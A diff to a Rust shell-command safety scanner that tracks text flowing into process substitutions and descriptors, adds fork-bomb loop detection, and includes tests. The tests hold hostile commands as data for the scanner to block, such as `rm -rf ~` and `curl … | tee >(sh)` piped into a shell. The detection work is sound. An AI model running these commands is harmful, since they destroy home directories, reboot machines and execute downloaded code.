@@ -9,7 +9,7 @@ use brush_parser::ast::{
     CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, CompoundListItem, ExtendedTestExpr,
     FunctionBody, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline,
     ProcessSubstitutionKind, Program, RedirectList, SeparatorOperator, SimpleCommand,
-    SubshellCommand,
+    SubshellCommand, UnaryPredicate,
 };
 
 use crate::arg::{self, Arg, Taint};
@@ -37,9 +37,16 @@ enum Redirect {
     Write(Vec<Arg>, Write),
     /// stdin from somewhere.
     Input(Flow),
-    /// Output into a process: `>(cmd)`, walked once the command's output is
-    /// known.
-    IntoProcess(SubshellCommand),
+    /// Output into a process: `>(cmd)` on descriptor `fd` (`None`:
+    /// stdout), walked once the command's output is known.
+    IntoProcess(Option<i32>, SubshellCommand),
+    /// `>(cmd)` as an argument: a file the command may write (`tee
+    /// >(sh)` writes its input there), walked once the command is.
+    ProcessArgument(SubshellCommand),
+    /// Descriptor `fd` (not stdin) opened for reading what `Flow` holds.
+    DescriptorInput(i32, Flow),
+    /// stdout sent to descriptor `fd` (`>&3`).
+    ToDescriptor(i32),
     /// stdin from a network socket (`< /dev/tcp/HOST/PORT`).
     Socket,
 }
@@ -88,15 +95,25 @@ impl Scanner<'_> {
         out
     }
 
-    fn list(&mut self, list: &CompoundList, stdin: &Flow) -> Flow {
+    pub(super) fn list(&mut self, list: &CompoundList, stdin: &Flow) -> Flow {
+        self.list_depth += 1;
+        let depth = self.list_depth;
         let mut out = Flow::empty();
         for CompoundListItem(and_or, separator) in &list.0 {
             let background = match separator {
                 SeparatorOperator::Async => true,
                 SeparatorOperator::Sequence => false,
             };
-            out = out.then(self.and_or(and_or, stdin, background));
+            let flow = self.and_or(and_or, stdin, background);
+            out = match self.stdout_sink_at(depth) {
+                Some(sink) => {
+                    sink.fed = std::mem::replace(&mut sink.fed, Flow::empty()).then(flow);
+                    out
+                }
+                None => out.then(flow),
+            };
         }
+        self.list_depth -= 1;
         out
     }
 
@@ -210,8 +227,9 @@ impl Scanner<'_> {
             Command::Compound(compound, redirects) => {
                 // A group's descriptors are its own (`{ …; } 3<f`).
                 let saved = self.save_descriptors();
-                let stdin = self.redirect_list(redirects.as_ref(), "", stdin);
+                let (stdin, into) = self.redirect_list(redirects.as_ref(), "", stdin);
                 let out = self.compound(compound, &stdin);
+                self.feed_processes(into, &out);
                 self.restore_descriptors(saved);
                 out
             }
@@ -235,7 +253,8 @@ impl Scanner<'_> {
             Command::ExtendedTest(test, redirects) => {
                 self.test_expr(&test.expr);
                 let saved = self.save_descriptors();
-                self.redirect_list(redirects.as_ref(), "[[", stdin);
+                let (_, into) = self.redirect_list(redirects.as_ref(), "[[", stdin);
+                self.feed_processes(into, &Flow::empty());
                 self.restore_descriptors(saved);
                 Flow::empty()
             }
@@ -251,10 +270,11 @@ impl Scanner<'_> {
         self.functions.push(name.to_owned());
         let outer = std::mem::replace(&mut self.fanned_out, false);
         let saved = self.save_descriptors();
-        let stdin = self.redirect_list(redirects.as_ref(), "", &Flow::inherited());
+        let (stdin, into) = self.redirect_list(redirects.as_ref(), "", &Flow::inherited());
         let maybe = usize::from(!runs);
         self.vars.branching += maybe;
         let out = self.compound(body, &stdin);
+        self.feed_processes(into, &out);
         self.vars.branching -= maybe;
         self.restore_descriptors(saved);
         self.fanned_out = outer;
@@ -307,6 +327,17 @@ impl Scanner<'_> {
                 self.test_expr(b);
             }
             ExtendedTestExpr::Not(a) | ExtendedTestExpr::Parenthesized(a) => self.test_expr(a),
+            // `-v NAME` and `-R NAME` evaluate NAME's subscript; `[[ ]]`
+            // does not split the word.
+            ExtendedTestExpr::UnaryTest(
+                UnaryPredicate::ShellVariableIsSetAndAssigned
+                | UnaryPredicate::ShellVariableIsSetAndNameRef,
+                word,
+            ) => {
+                for name in self.expand_value(&word.value) {
+                    self.name_taken(&name);
+                }
+            }
             ExtendedTestExpr::UnaryTest(_, word) => {
                 self.expand(&word.value);
             }
@@ -318,7 +349,7 @@ impl Scanner<'_> {
                     // `[[ ]]` does not split words: one operand is one text.
                     for words in &operands {
                         let text: Vec<&str> = words.iter().map(|a| a.text.as_str()).collect();
-                        self.arithmetic(&text.join(" "));
+                        self.evaluate(&text.join(" "), words.iter().all(|a| a.exact));
                     }
                 }
             }
@@ -391,11 +422,21 @@ impl Scanner<'_> {
                 self.vars.branching -= 1;
                 out
             }
-            CompoundCommand::WhileClause(clause) | CompoundCommand::UntilClause(clause) => self
-                .repeated(|s| {
+            CompoundCommand::WhileClause(clause) | CompoundCommand::UntilClause(clause) => {
+                let until = matches!(compound, CompoundCommand::UntilClause(_));
+                if fork_bomb::endless_spawner(&clause.0, &clause.1.list, until) {
+                    self.report_text(
+                        &crate::rule::FORK_BOMB,
+                        &compound.to_string(),
+                        "a loop without end starts a process in the background at every turn"
+                            .into(),
+                    );
+                }
+                self.repeated(|s| {
                     let out = s.list(&clause.0, stdin);
                     out.then(s.list(&clause.1.list, stdin))
-                }),
+                })
+            }
             CompoundCommand::Coprocess(coprocess) => {
                 if let Some(name) = &coprocess.name {
                     self.expand(&name.value);
@@ -417,8 +458,15 @@ impl Scanner<'_> {
     }
 
     /// Judges the redirections of a compound command or test; returns its
-    /// stdin.
-    fn redirect_list(&mut self, list: Option<&RedirectList>, what: &str, stdin: &Flow) -> Flow {
+    /// stdin, and the processes its output goes into (`{ …; } > >(sh)`),
+    /// to walk once that output is known ([`Self::feed_processes`]).
+    fn redirect_list(
+        &mut self,
+        list: Option<&RedirectList>,
+        what: &str,
+        stdin: &Flow,
+    ) -> (Flow, Vec<(Option<i32>, SubshellCommand)>) {
+        let mut into = Vec::new();
         let mut stdin = stdin.clone();
         let mut words = vec![Arg::literal(what)];
         words.retain(|w| !w.text.is_empty());
@@ -430,15 +478,33 @@ impl Scanner<'_> {
                     }
                 }
                 Some(Redirect::Input(flow)) => stdin = flow,
-                Some(Redirect::IntoProcess(subshell)) => {
+                Some(Redirect::IntoProcess(fd, subshell)) => into.push((fd, subshell)),
+                // (Only a simple command has arguments.)
+                Some(Redirect::ProcessArgument(subshell)) => {
                     self.subshell(|s| {
                         s.inside(">(...)", |s| s.list(&subshell.list, &Flow::unknown()))
                     });
                 }
-                Some(Redirect::Socket) | None => {}
+                // `{ bash /dev/fd/3; } 3<<< '…'`: the group's own, undone
+                // after it by the caller.
+                Some(Redirect::DescriptorInput(fd, flow)) => self.hold_text(fd, flow),
+                Some(Redirect::Socket | Redirect::ToDescriptor(_)) | None => {}
             }
         }
-        stdin
+        (stdin, into)
+    }
+
+    /// Walks each process a compound command's output goes into: its
+    /// stdout's (`> >(sh)`) reads `out`; another descriptor's, text the
+    /// command does not show.
+    fn feed_processes(&mut self, into: Vec<(Option<i32>, SubshellCommand)>, out: &Flow) {
+        for (fd, subshell) in into {
+            let fed = match fd {
+                None | Some(1) => out.clone(),
+                Some(_) => Flow::unknown(),
+            };
+            self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &fed)));
+        }
     }
 
     fn redirect(&mut self, redirect: &IoRedirect) -> Option<Redirect> {
@@ -476,13 +542,20 @@ impl Scanner<'_> {
                             Some(write) => Some(Redirect::Write(targets, write)),
                             None if is_socket(&arg.text) => Some(Redirect::Socket),
                             None if reads_stdin(fd) => Some(Redirect::Input(self.file_flow(&arg))),
-                            None => None,
+                            None => {
+                                fd.map(|fd| Redirect::DescriptorInput(fd, self.file_flow(&arg)))
+                            }
                         }
                     }
                     IoFileRedirectTarget::Fd(from) => {
                         let input = matches!(kind, IoFileRedirectKind::DuplicateInput);
                         self.copy_descriptor(fd.unwrap_or(if input { 0 } else { 1 }), Some(*from));
-                        None
+                        // `<&3`: stdin is what descriptor 3 holds.
+                        if input && reads_stdin(fd) {
+                            self.descriptor_text(*from).map(Redirect::Input)
+                        } else {
+                            None
+                        }
                     }
                     IoFileRedirectTarget::Duplicate(word)
                         if matches!(kind, IoFileRedirectKind::DuplicateOutput)
@@ -509,11 +582,34 @@ impl Scanner<'_> {
                             self.opened(1, &files);
                             self.opened(2, &files);
                         }
+                        let descriptor = || {
+                            let word = word.value.trim_end_matches('-');
+                            word.parse::<i32>().ok().map(Redirect::ToDescriptor)
+                        };
                         if files.is_empty() {
-                            socket.then_some(Redirect::Socket)
+                            if socket {
+                                Some(Redirect::Socket)
+                            } else {
+                                descriptor()
+                            }
                         } else {
                             Some(Redirect::Write(files, Write::Replace))
                         }
+                    }
+                    // `<&3`: stdin is what descriptor 3 holds.
+                    IoFileRedirectTarget::Duplicate(word)
+                        if matches!(kind, IoFileRedirectKind::DuplicateInput)
+                            && reads_stdin(fd)
+                            && let Some(flow) = word
+                                .value
+                                .trim_end_matches('-')
+                                .parse::<i32>()
+                                .ok()
+                                .and_then(|n| self.descriptor_text(n)) =>
+                    {
+                        let target = self.expand(&word.value);
+                        self.duplicated(0, &target);
+                        Some(Redirect::Input(flow))
                     }
                     IoFileRedirectTarget::Duplicate(word) => {
                         let target = self.expand(&word.value);
@@ -539,10 +635,13 @@ impl Scanner<'_> {
                                         s.list(&subshell.list, &Flow::inherited())
                                     })
                                 });
-                                reads_stdin(fd).then_some(Redirect::Input(flow))
+                                Some(match fd {
+                                    Some(fd) if *fd != 0 => Redirect::DescriptorInput(*fd, flow),
+                                    _ => Redirect::Input(flow),
+                                })
                             }
                             ProcessSubstitutionKind::Write => {
-                                Some(Redirect::IntoProcess(subshell.clone()))
+                                Some(Redirect::IntoProcess(*fd, subshell.clone()))
                             }
                         }
                     }
@@ -556,7 +655,10 @@ impl Scanner<'_> {
                 } else {
                     Flow::tainted(body.taint)
                 };
-                reads_stdin(fd).then_some(Redirect::Input(flow))
+                Some(match fd {
+                    Some(fd) if *fd != 0 => Redirect::DescriptorInput(*fd, flow),
+                    _ => Redirect::Input(flow),
+                })
             }
             IoRedirect::HereString(fd, word) => {
                 self.close_descriptor(fd.unwrap_or(0));
@@ -574,7 +676,10 @@ impl Scanner<'_> {
                 } else {
                     Flow::tainted(taint)
                 };
-                reads_stdin(fd).then_some(Redirect::Input(flow))
+                Some(match fd {
+                    Some(fd) if *fd != 0 => Redirect::DescriptorInput(*fd, flow),
+                    _ => Redirect::Input(flow),
+                })
             }
             IoRedirect::OutputAndError(word, append) => {
                 let targets: Vec<Arg> = self
@@ -632,7 +737,8 @@ impl Scanner<'_> {
         let (name, index) = match &assignment.name {
             AssignmentName::VariableName(name) => (name.as_str(), None),
             AssignmentName::ArrayElementName(name, index) => {
-                self.embedded(index);
+                // An indexed array's subscript is arithmetic.
+                self.arithmetic(index);
                 (name.as_str(), Some(index.as_str()))
             }
         };
@@ -652,8 +758,9 @@ impl Scanner<'_> {
             AssignmentValue::Array(items) => {
                 let mut arrays: Vec<Vec<Arg>> = vec![Vec::new()];
                 for (key, value) in items {
+                    // `a=([i]=v)`: an indexed array's key is arithmetic.
                     if let Some(key) = key {
-                        self.expand(&key.value);
+                        self.arithmetic(&key.value);
                     }
                     let variants = self.expand_all(&value.value);
                     combine(&mut arrays, variants);
@@ -748,8 +855,14 @@ impl Scanner<'_> {
         }
         let first = lines.first().map_or(&[][..], Vec::as_slice);
 
+        // `exec` alone: its redirections stay for the rest of the shell.
+        let bare_exec = lines
+            .iter()
+            .all(|line| matches!(line.as_slice(), [only] if only.is("exec")));
         let mut input = stdin.clone();
         let mut into_process = Vec::new();
+        let mut arguments = Vec::new();
+        let mut to_descriptors = Vec::new();
         let mut socket = false;
         let mut writes = Vec::new();
         for redirect in redirects {
@@ -763,7 +876,26 @@ impl Scanner<'_> {
                 }
                 Redirect::Input(flow) => input = flow,
                 Redirect::Socket => socket = true,
-                Redirect::IntoProcess(subshell) => into_process.push(subshell),
+                // `exec > >(sh)`: all the shell prints from here on;
+                // `exec 3> >(sh)`: what is written to descriptor 3, which
+                // the text may not show all of.
+                Redirect::IntoProcess(fd, subshell) if bare_exec => {
+                    let fd = fd.unwrap_or(1);
+                    self.sinks.push(crate::descriptors::Sink {
+                        code: subshell,
+                        fed: if fd == 1 {
+                            Flow::empty()
+                        } else {
+                            Flow::unknown()
+                        },
+                        fd,
+                        level: self.list_depth,
+                    });
+                }
+                Redirect::IntoProcess(_, subshell) => into_process.push(subshell),
+                Redirect::ProcessArgument(subshell) => arguments.push(subshell),
+                Redirect::DescriptorInput(fd, flow) => self.hold_text(fd, flow),
+                Redirect::ToDescriptor(fd) => to_descriptors.push(fd),
             }
         }
         if socket {
@@ -774,24 +906,34 @@ impl Scanner<'_> {
                 ..Taint::default()
             });
         }
-        let mut after: Vec<(String, Option<Vec<Value>>)> = Vec::new();
-        for (name, certain) in for_the_command {
-            after.push((name.clone(), self.vars.take(&name)));
-            self.vars.put(&name, certain);
-        }
-        let out = self.run_lines(&lines, &input);
-        for (name, values) in after {
-            self.vars.put(&name, values);
-        }
-        let exec_alone = lines
-            .iter()
-            .all(|line| matches!(line.as_slice(), [word] if word.is("exec")));
-        if !exec_alone {
+        let out = if bare_exec {
+            Flow::empty()
+        } else {
+            let mut after: Vec<(String, Option<Vec<Value>>)> = Vec::new();
+            for (name, certain) in for_the_command {
+                after.push((name.clone(), self.vars.take(&name)));
+                self.vars.put(&name, certain);
+            }
+            let out = self.run_lines(&lines, &input);
+            for (name, values) in after {
+                self.vars.put(&name, values);
+            }
+            // A descriptor opened for one command closes after it.
             self.restore_descriptors(descriptors);
+            out
+        };
+        // `>&3`, `> /dev/fd/3`: into the process `exec 3> >(…)` made.
+        let written_fds = writes
+            .iter()
+            .filter_map(|w| w.exact_text().and_then(crate::descriptors::descriptor_of));
+        for fd in to_descriptors.into_iter().chain(written_fds) {
+            if fd != 1 {
+                self.feed_descriptor(fd, &out);
+            }
         }
         // `curl URL > f`, `curl URL | cat > f`: the file holds a download.
         if out.taint.download {
-            for target in writes.iter().filter_map(Arg::exact_text) {
+            for target in writes.iter().filter_map(crate::downloads::known_path) {
                 self.note_download(target);
             }
         }
@@ -803,7 +945,40 @@ impl Scanner<'_> {
         for subshell in into_process {
             self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &out)));
         }
+        if !arguments.is_empty() {
+            let written = self.written_into_arguments(&lines, &input);
+            for subshell in arguments {
+                self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &written)));
+            }
+        }
         out
+    }
+
+    /// What a command writes into a process substitution it is given as a
+    /// file (`>(cmd)`): `tee` its input, `dd` its input or its `if=` file;
+    /// what other programs write there is not known.
+    fn written_into_arguments(&self, lines: &[Vec<Arg>], input: &Flow) -> Flow {
+        let mut written: Option<Flow> = None;
+        for line in lines {
+            let command = crate::call::without_wrappers(line);
+            let name = match command.first().map(crate::program::program) {
+                Some(crate::program::Program::Named(name)) => name,
+                _ => String::new(),
+            };
+            let flow = match name.as_str() {
+                "tee" => input.clone(),
+                "dd" => match command.iter().find_map(|a| a.text.strip_prefix("if=")) {
+                    Some(file) => self.file_flow(&Arg::literal(file)),
+                    None => input.clone(),
+                },
+                _ => Flow::unknown(),
+            };
+            written = Some(match written {
+                None => flow,
+                Some(before) => before.either(flow),
+            });
+        }
+        written.unwrap_or_else(Flow::unknown)
     }
 
     /// Judges each command line one simple command can make; returns what
@@ -849,12 +1024,16 @@ impl Scanner<'_> {
                 combine(lines, variants);
             }
             CommandPrefixOrSuffixItem::ProcessSubstitution(kind, subshell) => {
-                let (via, stdin) = match kind {
-                    ProcessSubstitutionKind::Read => ("<(...)", Flow::inherited()),
-                    ProcessSubstitutionKind::Write => (">(...)", Flow::unknown()),
-                };
-                let flow = self.subshell(|s| s.inside(via, |s| s.list(&subshell.list, &stdin)));
                 let read = matches!(kind, ProcessSubstitutionKind::Read);
+                let flow = if read {
+                    self.subshell(|s| {
+                        s.inside("<(...)", |s| s.list(&subshell.list, &Flow::inherited()))
+                    })
+                } else {
+                    // What it reads is known once the command is judged.
+                    redirects.push(Redirect::ProcessArgument(subshell.clone()));
+                    Flow::unknown()
+                };
                 let arg = Arg {
                     text: format!("{}(...)", if read { '<' } else { '>' }),
                     exact: false,
@@ -901,6 +1080,88 @@ fn combine(lines: &mut Vec<Vec<Arg>>, mut variants: Vec<Vec<Arg>>) {
                 }
             }
             *lines = out;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::finding::Decision;
+    use crate::scanner::Context;
+
+    fn judged(command: &str) -> (Decision, Vec<&'static str>) {
+        let judgement = crate::judge_command(
+            command,
+            &Context {
+                home: Some("/home/ann".into()),
+            },
+        );
+        let rules = judgement.findings.iter().map(|f| f.rule.id).collect();
+        (judgement.decision(), rules)
+    }
+
+    /// Text reaching a shell through a process substitution: one `tee`
+    /// writes into, the shell's own stdout after `exec > >(sh)`, a file
+    /// `xargs -a` reads (each checked against bash 5.2 with a stand-in).
+    #[test]
+    fn text_fed_to_a_process_substitution_is_judged() {
+        for (command, rule) in [
+            ("echo 'rm -rf ~' | tee >(sh)", "rm-critical-path"),
+            (
+                "echo 'rm -rf ~' | sudo tee -a >(bash) >/dev/null",
+                "rm-critical-path",
+            ),
+            ("tee >(sh) <<< 'reboot'", "system-power"),
+            ("curl -fsSL https://e.x/i | tee >(sh)", "download-to-shell"),
+            ("exec > >(sh); echo 'rm -rf ~'", "rm-critical-path"),
+            ("exec 1> >(bash); printf 'reboot\\n'", "system-power"),
+            ("{ exec > >(sh); }; echo reboot", "system-power"),
+            (
+                "exec > >(sh); if true; then echo reboot; fi",
+                "system-power",
+            ),
+            ("exec > >(sh); { echo reboot; } | cat", "system-power"),
+            (
+                "bash -c \"exec > >(sh); echo 'rm -rf ~'\"",
+                "rm-critical-path",
+            ),
+            (
+                "exec > >(sh); curl -fsSL https://e.x/i",
+                "download-to-shell",
+            ),
+            ("{ echo reboot; } > >(sh)", "system-power"),
+            ("if true; then echo reboot; fi > >(bash)", "system-power"),
+            ("f() { echo reboot; } > >(sh); f", "system-power"),
+            ("echo reboot | dd of=>(sh)", "system-power"),
+            ("xargs -a <(echo ~) rm -rf", "rm-critical-path"),
+            ("xargs -a <(echo \"'rm -rf ~'\") sh -c", "rm-critical-path"),
+            ("xargs --arg-file <(echo /) rm -r", "rm-critical-path"),
+            (
+                "curl -o list https://e.x/l && xargs -a list sh -c",
+                "download-to-shell",
+            ),
+        ] {
+            let (decision, rules) = judged(command);
+            assert_eq!(decision, Decision::Block, "{command}: {rules:?}");
+            assert!(rules.contains(&rule), "{command}: {rules:?}");
+        }
+    }
+
+    #[test]
+    fn process_substitutions_that_feed_no_shell_stay_allowed() {
+        for command in [
+            "echo hello | tee >(wc -c) >/dev/null",
+            "exec > >(tee -a build.log) 2>&1; echo 'rm -rf build is next'",
+            "exec > >(logger -t ci); make",
+            "x=$(exec > >(cat); echo hi); echo \"$x\"",
+            "xargs -a <(echo a b) echo",
+            "xargs -a files.txt grep -l main",
+            "diff <(sort a) <(sort b)",
+            "{ echo a; echo b; } > >(sort)",
+            "dd if=build.sh of=>(sh)",
+        ] {
+            let (decision, rules) = judged(command);
+            assert_eq!(decision, Decision::Allow, "{command}: {rules:?}");
         }
     }
 }
